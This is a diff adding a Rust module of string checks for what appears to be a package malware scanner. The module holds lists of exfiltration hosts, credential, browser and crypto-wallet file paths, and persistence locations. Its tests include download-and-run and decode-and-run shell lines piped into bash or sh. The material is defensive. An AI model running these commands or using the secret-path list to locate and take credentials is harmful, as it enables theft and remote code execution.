@@ -1,0 +1,580 @@
+//! Language-neutral facts about strings: where a URL points, whether a path holds
+//! secrets or makes code start at boot, whether a blob is encoded, what a shell command
+//! does. Both analysers call these on the constant strings they fold from the tree.
+
+use crate::BehaviourKind;
+
+/// Hosts and URL fragments that legitimate packages rarely contact: chat webhooks used
+/// as drop boxes, paste sites, request catchers, out-of-band interaction servers and
+/// tunnels. Matching is on the lower-cased text.
+const DESTINATIONS: &[(&str, &str)] = &[
+    ("discord.com/api/webhooks", "Discord webhook"),
+    ("discordapp.com/api/webhooks", "Discord webhook"),
+    ("api.telegram.org/bot", "Telegram bot API"),
+    ("hooks.slack.com/services", "Slack webhook"),
+    ("pastebin.com/raw", "paste site"),
+    ("paste.ee/r", "paste site"),
+    ("hastebin.com", "paste site"),
+    ("rentry.co", "paste site"),
+    ("termbin.com", "paste site"),
+    ("ghostbin", "paste site"),
+    ("transfer.sh", "anonymous file drop"),
+    ("gofile.io", "anonymous file drop"),
+    ("anonfiles", "anonymous file drop"),
+    ("file.io", "anonymous file drop"),
+    ("pipedream.net", "request catcher"),
+    ("webhook.site", "request catcher"),
+    ("requestbin", "request catcher"),
+    ("beeceptor.com", "request catcher"),
+    ("interact.sh", "out-of-band interaction server"),
+    ("oast.fun", "out-of-band interaction server"),
+    ("oast.pro", "out-of-band interaction server"),
+    ("oast.live", "out-of-band interaction server"),
+    ("oast.site", "out-of-band interaction server"),
+    ("oast.online", "out-of-band interaction server"),
+    ("oast.me", "out-of-band interaction server"),
+    ("burpcollaborator.net", "out-of-band interaction server"),
+    ("oastify.com", "out-of-band interaction server"),
+    ("canarytokens.com", "canary token server"),
+    ("dnslog.cn", "DNS logger"),
+    ("ceye.io", "DNS logger"),
+    ("ngrok.io", "tunnel"),
+    ("ngrok-free.app", "tunnel"),
+    ("ngrok.app", "tunnel"),
+    ("trycloudflare.com", "tunnel"),
+    ("serveo.net", "tunnel"),
+    ("loca.lt", "tunnel"),
+    ("localtunnel.me", "tunnel"),
+    ("portmap.io", "tunnel"),
+];
+
+/// If `text` holds a URL or host that legitimate packages rarely contact, says what it
+/// is and returns the matched URL.
+#[must_use]
+pub fn suspicious_destination(text: &str) -> Option<(&'static str, String)> {
+    if text.len() > 4096 {
+        return None;
+    }
+    let lower = text.to_ascii_lowercase();
+    for (needle, what) in DESTINATIONS {
+        if let Some(at) = lower.find(needle) {
+            // Require a host boundary before the match (start, '/', '.', '@' or quote).
+            let before = lower[..at].chars().last();
+            if before.is_none_or(|c| matches!(c, '/' | '.' | '@' | ' ' | '"' | '\'')) {
+                return Some((what, excerpt(text, at)));
+            }
+        }
+    }
+    ip_literal_url(&lower).map(|url| ("IP-literal URL", url))
+}
+
+fn excerpt(text: &str, at: usize) -> String {
+    let start = text[..at]
+        .rfind(|c: char| c.is_whitespace() || c == '"' || c == '\'')
+        .map_or(0, |i| i + 1);
+    text[start..]
+        .split(|c: char| c.is_whitespace() || c == '"' || c == '\'')
+        .next()
+        .unwrap_or("")
+        .chars()
+        .take(120)
+        .collect()
+}
+
+/// An `http(s)://a.b.c.d` URL to a public IPv4 address (loopback, private and
+/// documentation ranges are left alone: tests and local tooling use them).
+fn ip_literal_url(lower: &str) -> Option<String> {
+    for scheme in ["http://", "https://", "tcp://", "ws://", "wss://"] {
+        let mut rest = lower;
+        while let Some(at) = rest.find(scheme) {
+            let after = &rest[at + scheme.len()..];
+            let host: String = after
+                .chars()
+                .take_while(|c| c.is_ascii_digit() || *c == '.')
+                .collect();
+            let octets: Vec<u8> = host.split('.').filter_map(|o| o.parse().ok()).collect();
+            if octets.len() == 4 && host.split('.').count() == 4 && is_public(&octets) {
+                let url: String = after
+                    .split(|c: char| c.is_whitespace() || c == '"' || c == '\'')
+                    .next()
+                    .unwrap_or("")
+                    .chars()
+                    .take(100)
+                    .collect();
+                return Some(format!("{scheme}{url}"));
+            }
+            rest = after;
+        }
+    }
+    None
+}
+
+fn is_public(o: &[u8]) -> bool {
+    !matches!(
+        (o[0], o[1]),
+        (0 | 10 | 127, _)
+            | (169, 254)
+            | (172, 16..=31)
+            | (192, 168)
+            | (192, 0)
+            | (198, 51)
+            | (203, 0)
+            | (255, _)
+            | (224..=239, _)
+    )
+}
+
+/// Path fragments of credentials and personal data. Lower-cased, '/'-separated.
+const SECRET_PATHS: &[(&str, &str)] = &[
+    (".ssh/id_", "SSH private key"),
+    (".ssh/", "SSH folder"),
+    (".aws/credentials", "AWS credentials"),
+    (".aws/config", "AWS config"),
+    (".azure/", "Azure credentials"),
+    (".config/gcloud", "Google Cloud credentials"),
+    (".kube/config", "Kubernetes credentials"),
+    (".docker/config.json", "Docker registry credentials"),
+    (".git-credentials", "git credentials"),
+    (".gitconfig", "git config"),
+    (".pypirc", "PyPI upload token"),
+    (".npmrc", "npm token"),
+    (".yarnrc", "yarn token"),
+    (".netrc", "netrc credentials"),
+    (".gnupg", "GnuPG keys"),
+    (".bash_history", "shell history"),
+    (".zsh_history", "shell history"),
+    ("/etc/passwd", "system accounts"),
+    ("/etc/shadow", "system password hashes"),
+    ("login data", "browser saved passwords"),
+    ("/cookies", "browser cookies"),
+    ("local state", "browser encryption key"),
+    ("google/chrome/user data", "Chrome profile"),
+    ("bravesoftware", "Brave profile"),
+    ("mozilla/firefox/profiles", "Firefox profile"),
+    ("key4.db", "Firefox passwords"),
+    ("logins.json", "Firefox passwords"),
+    ("keychain", "macOS keychain"),
+    ("library/keychains", "macOS keychain"),
+    ("exodus/exodus.wallet", "Exodus wallet"),
+    ("electrum/wallets", "Electrum wallet"),
+    ("atomic/local storage", "Atomic wallet"),
+    ("ethereum/keystore", "Ethereum keystore"),
+    ("wallet.dat", "crypto wallet"),
+    ("nkbihfbeogaeaoehlefnkodbefgpgknn", "MetaMask extension data"),
+    ("bfnaelmomeimhlpmgjnjophhpkkoljpa", "Phantom extension data"),
+    ("solana/id.json", "Solana wallet"),
+    ("discord/local storage/leveldb", "Discord tokens"),
+    ("telegram desktop/tdata", "Telegram session"),
+];
+
+/// If a path names credentials or personal data, says which.
+#[must_use]
+pub fn secret_path(text: &str) -> Option<&'static str> {
+    if text.len() > 1024 {
+        return None;
+    }
+    let lower = text.to_ascii_lowercase().replace('\\', "/");
+    SECRET_PATHS
+        .iter()
+        .find(|(needle, _)| lower.contains(needle))
+        .map(|(_, what)| *what)
+}
+
+/// Locations that make code run at login or boot.
+const PERSISTENCE_PATHS: &[(&str, &str)] = &[
+    (".bashrc", "shell rc file"),
+    (".bash_profile", "shell rc file"),
+    (".zshrc", "shell rc file"),
+    (".profile", "shell rc file"),
+    ("/etc/cron", "cron job"),
+    ("/var/spool/cron", "cron job"),
+    ("/etc/rc.local", "boot script"),
+    (".config/systemd/user", "systemd user unit"),
+    ("/etc/systemd/system", "systemd unit"),
+    ("library/launchagents", "macOS LaunchAgent"),
+    ("library/launchdaemons", "macOS LaunchDaemon"),
+    (".config/autostart", "desktop autostart entry"),
+    ("start menu/programs/startup", "Windows startup folder"),
+    ("currentversion/run", "Windows Run key"),
+];
+
+/// If a path or registry key makes code start at login or boot, says which.
+#[must_use]
+pub fn persistence_path(text: &str) -> Option<&'static str> {
+    if text.len() > 1024 {
+        return None;
+    }
+    let lower = text.to_ascii_lowercase().replace('\\', "/");
+    PERSISTENCE_PATHS
+        .iter()
+        .find(|(needle, _)| lower.contains(needle))
+        .map(|(_, what)| *what)
+}
+
+/// True for environment variable names that usually hold credentials.
+#[must_use]
+pub fn is_secret_env_name(name: &str) -> bool {
+    let upper = name.to_ascii_uppercase();
+    ["TOKEN", "SECRET", "PASSWORD", "PASSWD", "CREDENTIAL", "API_KEY", "APIKEY", "PRIVATE_KEY", "ACCESS_KEY", "AUTH"]
+        .iter()
+        .any(|w| upper.contains(w))
+}
+
+/// What kind of encoded blob a long string constant is, if any.
+#[must_use]
+pub fn encoded_blob(text: &str) -> Option<&'static str> {
+    const MIN: usize = 512;
+    if text.len() < MIN {
+        return None;
+    }
+    let bytes = text.as_bytes();
+    let sample = &bytes[..bytes.len().min(64 * 1024)];
+    let count = |pred: fn(u8) -> bool| sample.iter().filter(|&&b| pred(b)).count();
+    let hex = count(|b| b.is_ascii_hexdigit());
+    let b64 = count(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'));
+    let ws = count(|b| b.is_ascii_whitespace());
+    let body = sample.len() - ws;
+    if body < MIN || ws * 50 > sample.len() {
+        return None;
+    }
+    if hex == body {
+        return Some("hex");
+    }
+    if b64 == body && entropy(sample) > 5.0 {
+        return Some("base64");
+    }
+    None
+}
+
+/// Shannon entropy in bits per byte.
+#[must_use]
+pub fn entropy(bytes: &[u8]) -> f64 {
+    if bytes.is_empty() {
+        return 0.0;
+    }
+    let mut counts = [0u32; 256];
+    for &b in bytes {
+        counts[usize::from(b)] += 1;
+    }
+    #[allow(clippy::cast_precision_loss)]
+    let n = bytes.len() as f64;
+    counts
+        .iter()
+        .filter(|&&c| c > 0)
+        .map(|&c| {
+            let p = f64::from(c) / n;
+            -p * p.log2()
+        })
+        .sum()
+}
+
+/// Splits a shell command line into words and operators, honouring quotes and
+/// backslashes. Bounded by the input; never fails (an unclosed quote ends the word).
+#[must_use]
+pub fn shell_words(line: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut word = String::new();
+    let mut in_word = false;
+    let mut chars = line.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\'' => {
+                in_word = true;
+                for d in chars.by_ref() {
+                    if d == '\'' {
+                        break;
+                    }
+                    word.push(d);
+                }
+            }
+            '"' => {
+                in_word = true;
+                while let Some(d) = chars.next() {
+                    match d {
+                        '"' => break,
+                        '\\' => {
+                            if let Some(e) = chars.next() {
+                                word.push(e);
+                            }
+                        }
+                        _ => word.push(d),
+                    }
+                }
+            }
+            '\\' => {
+                in_word = true;
+                if let Some(e) = chars.next() {
+                    word.push(e);
+                }
+            }
+            '|' | '&' | ';' | '\n' | '(' | ')' | '`' => {
+                if in_word {
+                    out.push(std::mem::take(&mut word));
+                    in_word = false;
+                }
+                let mut op = c.to_string();
+                if (c == '|' || c == '&') && chars.peek() == Some(&c) {
+                    chars.next();
+                    op.push(c);
+                }
+                out.push(op);
+            }
+            c if c.is_whitespace() => {
+                if in_word {
+                    out.push(std::mem::take(&mut word));
+                    in_word = false;
+                }
+            }
+            _ => {
+                in_word = true;
+                word.push(c);
+            }
+        }
+    }
+    if in_word {
+        out.push(word);
+    }
+    out
+}
+
+/// A behaviour found in a shell command line.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ShellFinding {
+    /// What it does.
+    pub kind: BehaviourKind,
+    /// What exactly.
+    pub detail: String,
+}
+
+/// One simple command of a shell line (its words) and the operator after it.
+fn simple_commands(words: &[String]) -> Vec<(Vec<&str>, &str)> {
+    let mut out = Vec::new();
+    let mut current = Vec::new();
+    for w in words {
+        if matches!(w.as_str(), "|" | "||" | "&&" | ";" | "&" | "\n" | "(" | ")" | "`") {
+            out.push((std::mem::take(&mut current), w.as_str()));
+        } else {
+            current.push(w.as_str());
+        }
+    }
+    out.push((current, ""));
+    out
+}
+
+fn program(word: &str) -> &str {
+    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
+    base.strip_suffix(".exe").unwrap_or(base)
+}
+
+const INTERPRETERS: &[&str] = &[
+    "sh", "bash", "zsh", "dash", "python", "python3", "python2", "node", "perl", "ruby", "pwsh",
+    "powershell", "iex", "invoke-expression",
+];
+
+/// What a shell command line does: downloads piped into interpreters, inline code,
+/// encoded PowerShell, hidden starts, persistence. Also returns the script files it
+/// runs with `node`/`python`/`sh` (to give those files the line's context).
+#[must_use]
+pub fn analyze_shell(line: &str) -> (Vec<ShellFinding>, Vec<String>) {
+    let words = shell_words(line);
+    let commands = simple_commands(&words);
+    let mut findings = Vec::new();
+    let mut scripts = Vec::new();
+    let mut fetched = false;
+    let mut previous_op = "";
+    for (cmd, op) in &commands {
+        let Some(first) = cmd.first() else {
+            previous_op = op;
+            continue;
+        };
+        let prog = program(first).to_ascii_lowercase();
+        let prog = prog.as_str();
+        let args = &cmd[1..];
+        let lower_line: String = cmd.join(" ").to_ascii_lowercase();
+        if matches!(prog, "curl" | "wget" | "invoke-webrequest" | "iwr" | "certutil" | "bitsadmin") {
+            fetched = true;
+        }
+        if previous_op == "|" && fetched && INTERPRETERS.contains(&prog) {
+            findings.push(ShellFinding {
+                kind: BehaviourKind::DownloadExecute,
+                detail: format!("download piped into {prog}"),
+            });
+        }
+        if previous_op == "|" && INTERPRETERS.contains(&prog) && lower_line_has_decode(&words) {
+            findings.push(ShellFinding {
+                kind: BehaviourKind::DecodeExecute,
+                detail: format!("decoded data piped into {prog}"),
+            });
+        }
+        if fetched
+            && (prog == "chmod" || (previous_op == "&&" && INTERPRETERS.contains(&prog)))
+        {
+            findings.push(ShellFinding {
+                kind: BehaviourKind::DownloadExecute,
+                detail: format!("downloaded file then run with `{}`", cmd.join(" ")),
+            });
+        }
+        match prog {
+            "node" | "python" | "python3" | "python2" | "sh" | "bash" | "perl" | "ruby" => {
+                let inline = args
+                    .iter()
+                    .position(|a| matches!(*a, "-e" | "-c" | "--eval" | "-p" | "--print"));
+                if let Some(i) = inline {
+                    let code = args.get(i + 1).copied().unwrap_or("");
+                    findings.push(ShellFinding {
+                        kind: BehaviourKind::DynamicExecute,
+                        detail: format!("inline {prog} code: {}", clip(code, 120)),
+                    });
+                } else if let Some(script) = args.iter().find(|a| !a.starts_with('-')) {
+                    scripts.push((*script).to_owned());
+                }
+            }
+            "powershell" | "pwsh" => {
+                if args.iter().any(|a| {
+                    let l = a.to_ascii_lowercase();
+                    l.starts_with("-e") && "-encodedcommand".starts_with(&l) && l.len() >= 2
+                }) {
+                    findings.push(ShellFinding {
+                        kind: BehaviourKind::DecodeExecute,
+                        detail: "PowerShell with an encoded command".into(),
+                    });
+                }
+                if lower_line.contains("hidden") {
+                    findings.push(ShellFinding {
+                        kind: BehaviourKind::HiddenProcess,
+                        detail: "PowerShell with a hidden window".into(),
+                    });
+                }
+                findings.push(ShellFinding {
+                    kind: BehaviourKind::ProcessSpawn,
+                    detail: format!("runs PowerShell: {}", clip(&lower_line, 120)),
+                });
+            }
+            "nohup" | "setsid" | "disown" => findings.push(ShellFinding {
+                kind: BehaviourKind::HiddenProcess,
+                detail: format!("detached with {prog}"),
+            }),
+            "crontab" | "schtasks" | "launchctl" => findings.push(ShellFinding {
+                kind: BehaviourKind::Persistence,
+                detail: format!("schedules itself with {prog}"),
+            }),
+            "reg" if lower_line.contains("currentversion\\run") || lower_line.contains("currentversion/run") => {
+                findings.push(ShellFinding {
+                    kind: BehaviourKind::Persistence,
+                    detail: "adds a Windows Run key".into(),
+                });
+            }
+            "npm" | "yarn" | "pnpm" if args.first().is_some_and(|a| *a == "publish") => {
+                findings.push(ShellFinding {
+                    kind: BehaviourKind::SelfPropagation,
+                    detail: format!("runs `{prog} publish`"),
+                });
+            }
+            _ => {}
+        }
+        if *op == "&" && !cmd.is_empty() && !matches!(prog, "nohup" | "setsid") {
+            findings.push(ShellFinding {
+                kind: BehaviourKind::HiddenProcess,
+                detail: format!("`{}` left running in the background", clip(&cmd.join(" "), 80)),
+            });
+        }
+        for w in cmd {
+            if let Some((what, url)) = suspicious_destination(w) {
+                findings.push(ShellFinding {
+                    kind: BehaviourKind::SuspiciousDestination,
+                    detail: format!("{what}: {url}"),
+                });
+            }
+            if let Some(what) = secret_path(w) {
+                if matches!(prog, "cat" | "curl" | "wget" | "cp" | "tar" | "zip" | "scp" | "nc") {
+                    findings.push(ShellFinding {
+                        kind: BehaviourKind::SecretRead,
+                        detail: format!("reads {what} ({w})"),
+                    });
+                }
+            }
+        }
+        previous_op = op;
+    }
+    (findings, scripts)
+}
+
+fn lower_line_has_decode(words: &[String]) -> bool {
+    words.windows(2).any(|w| {
+        program(&w[0]) == "base64" && matches!(w[1].as_str(), "-d" | "--decode" | "-D")
+    }) || words.iter().any(|w| w == "xxd") && words.iter().any(|w| w == "-r")
+}
+
+/// Shortens text to `n` characters for a message.
+#[must_use]
+pub fn clip(text: &str, n: usize) -> String {
+    let mut out: String = text.chars().take(n).collect();
+    if text.chars().nth(n).is_some() {
+        out.push('…');
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn destinations() {
+        assert_eq!(
+            suspicious_destination("https://discord.com/api/webhooks/123/abc").map(|d| d.0),
+            Some("Discord webhook")
+        );
+        assert_eq!(
+            suspicious_destination("http://45.61.1.2:8080/x").map(|d| d.1),
+            Some("http://45.61.1.2:8080/x".into())
+        );
+        assert!(suspicious_destination("http://127.0.0.1:8000/").is_none());
+        assert!(suspicious_destination("http://192.168.1.1/").is_none());
+        assert!(suspicious_destination("https://docs.python.org/3/").is_none());
+        assert!(suspicious_destination("notwebhook.site.example").is_none());
+    }
+
+    #[test]
+    fn paths() {
+        assert_eq!(secret_path("~/.ssh/id_rsa"), Some("SSH private key"));
+        assert_eq!(secret_path("C:\\Users\\x\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"), Some("browser saved passwords"));
+        assert!(secret_path("src/config.py").is_none());
+        assert_eq!(persistence_path("~/.config/systemd/user/x.service"), Some("systemd user unit"));
+    }
+
+    #[test]
+    fn blobs() {
+        let b64: String = (0..2000u32)
+            .map(|i| {
+                let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+                alphabet[(u64::from(i).wrapping_mul(2_654_435_761) >> 7) as usize % 64] as char
+            })
+            .collect();
+        assert_eq!(encoded_blob(&b64), Some("base64"));
+        assert_eq!(encoded_blob(&"deadbeef".repeat(100)), Some("hex"));
+        assert_eq!(encoded_blob(&"hello world ".repeat(100)), None);
+        assert_eq!(encoded_blob("short"), None);
+    }
+
+    #[test]
+    fn shell() {
+        assert_eq!(
+            shell_words("curl -s 'http://x/a b' | sh && echo \"q\\\"\""),
+            vec!["curl", "-s", "http://x/a b", "|", "sh", "&&", "echo", "q\""]
+        );
+        let (f, _) = analyze_shell("curl -fsSL http://45.61.1.2/x.sh | bash");
+        let kinds: Vec<_> = f.iter().map(|f| f.kind).collect();
+        assert!(kinds.contains(&BehaviourKind::DownloadExecute));
+        assert!(kinds.contains(&BehaviourKind::SuspiciousDestination));
+        let (f, scripts) = analyze_shell("node ./scripts/postinstall.js");
+        assert!(f.is_empty());
+        assert_eq!(scripts, vec!["./scripts/postinstall.js"]);
+        let (f, _) = analyze_shell("node -e \"require('child_process').exec('id')\"");
+        assert_eq!(f[0].kind, BehaviourKind::DynamicExecute);
+        let (f, _) = analyze_shell("echo aWQ= | base64 -d | sh");
+        assert_eq!(f[0].kind, BehaviourKind::DecodeExecute);
+        let (f, _) = analyze_shell("node-gyp rebuild || echo failed");
+        assert!(f.is_empty());
+    }
+}
